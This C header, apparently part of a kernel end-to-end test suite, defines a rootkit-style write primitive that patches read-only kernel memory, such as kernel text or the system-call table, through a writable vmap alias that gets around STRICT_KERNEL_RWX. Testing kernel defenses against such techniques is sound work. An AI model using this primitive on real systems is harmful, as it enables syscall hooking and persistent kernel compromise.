/* SPDX-License-Identifier: GPL-2.0 */
/*
 * e2e_poke.h - the rootkit's write primitive for the e2e attack modules:
 * one word of read-only kernel memory (text, the system-call table,
 * ro_after_init) written through a writable vmap() alias of its page,
 * as LKM rootkits do once STRICT_KERNEL_RWX forbids writing in place.
 */
#ifndef E2E_POKE_H
#define E2E_POKE_H

#include <linux/mm.h>
#include <linux/timekeeping.h>
#include <linux/vmalloc.h>

/* Writes @val at @addr (lowmem kernel image); 0 or -ENOMEM. */
static inline int e2e_poke_word(void *addr, u32 val)
{
	struct page *page = virt_to_page(addr);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(u32 *)(alias + offset_in_page(addr)), val);
	vunmap(alias);
	return 0;
}

#endif /* E2E_POKE_H */
